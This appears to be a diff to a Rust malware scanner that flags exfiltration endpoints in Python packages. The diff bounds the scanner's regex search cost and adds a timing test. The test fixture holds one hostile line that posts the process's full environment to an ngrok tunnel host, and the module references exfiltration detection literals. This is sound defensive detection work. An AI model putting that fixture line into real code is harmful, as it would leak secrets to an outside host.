@@ -80,9 +80,44 @@ static ENDPOINT_STARTS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
     ])
 });
 
-/// `ENDPOINT.captures_iter(file.text)`, confirmed at the words its matches start with.
-fn endpoints<'t>(file: &TextFile<'t>) -> impl Iterator<Item = regex::Captures<'t>> {
-    pysrc::captures_at_words(&ENDPOINT_AT, &ENDPOINT, file, &ENDPOINT_STARTS)
+/// `ENDPOINT.captures_iter(file.text)`, confirmed at the words its matches start with; searched
+/// whole when a line holds more than [`MAX_STARTS_PER_LINE`] of them (an anchored search from
+/// `gitlab.com/` reads the run of non-blank bytes after it: one per word along a long run would
+/// read it again and again).
+fn endpoints<'t>(file: &TextFile<'t>) -> Box<dyn Iterator<Item = regex::Captures<'t>> + 't> {
+    let text = file.text;
+    let Some(starts) = file.ascii_lowercase().map(|l| pysrc::word_starts(&ENDPOINT_STARTS, l.as_bytes())) else {
+        return Box::new(ENDPOINT.captures_iter(text));
+    };
+    if !sparse(text.as_bytes(), &starts) {
+        return Box::new(ENDPOINT.captures_iter(text));
+    }
+    Box::new(
+        pysrc::find_at_starts(&ENDPOINT_AT, text, starts)
+            .into_iter()
+            .filter_map(move |(start, _)| ENDPOINT.captures_at(text, start)),
+    )
+}
+
+/// How many places to try an anchored search at on one line before a member is searched whole.
+const MAX_STARTS_PER_LINE: usize = 64;
+
+/// Whether no line of `text` holds more than [`MAX_STARTS_PER_LINE`] of `starts` (ascending): then
+/// anchored searches that read at most to their line's end (and over the blanks after it) read
+/// each line a bounded number of times. One pass over the starts and their lines' ends.
+fn sparse(text: &[u8], starts: &[usize]) -> bool {
+    let (mut line_end, mut on_line) = (0, 0);
+    for &s in starts {
+        if s >= line_end {
+            line_end = memchr::memchr(b'\n', &text[s..]).map_or(text.len(), |p| s + p + 1);
+            on_line = 0;
+        }
+        on_line += 1;
+        if on_line > MAX_STARTS_PER_LINE {
+            return false;
+        }
+    }
+    true
 }
 
 /// Example values in the webhook/bot URL's tail: `T00000000/B00000000/XXXXXXXX`,
@@ -349,6 +384,31 @@ mod tests {
         for lit in super::super::dns_exfil::LITERALS.iter().chain(reputation::LITERALS) {
             assert!(mine.contains(lit), "{lit} missing from the prefilter");
         }
+    }
+
+    #[test]
+    fn many_start_words_on_one_line_cost_linear_time() {
+        // A run without a blank holding tens of thousands of the words an endpoint match starts
+        // with: an anchored search from each would read the rest of the run.
+        let make = |n: usize| {
+            let mut s = String::from("import requests, os\nx = '");
+            s.push_str(&"gitlab.com/a".repeat(n));
+            s.push_str(&"bitbucket.org/b".repeat(n));
+            s.push_str("'\nrequests.post('https://x.ngrok.io/c', data=os.environ.copy())\n");
+            s
+        };
+        let time = |text: &str| {
+            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
+            let t = std::time::Instant::now();
+            let mut hits = Hits::default();
+            ExfilEndpoint.scan_text(&file, &mut hits);
+            (t.elapsed(), hits.len())
+        };
+        let (t1, _) = time(&make(5_000));
+        let (t4, found) = time(&make(20_000));
+        assert_eq!(found, 1, "the tunnel next to the harvest is still found");
+        assert!(t4 < std::time::Duration::from_secs(2), "{t4:?} for 20,000");
+        assert!(t4 < t1 * 12 + std::time::Duration::from_millis(100), "5,000 took {t1:?}, 20,000 took {t4:?}");
     }
 
     #[test]
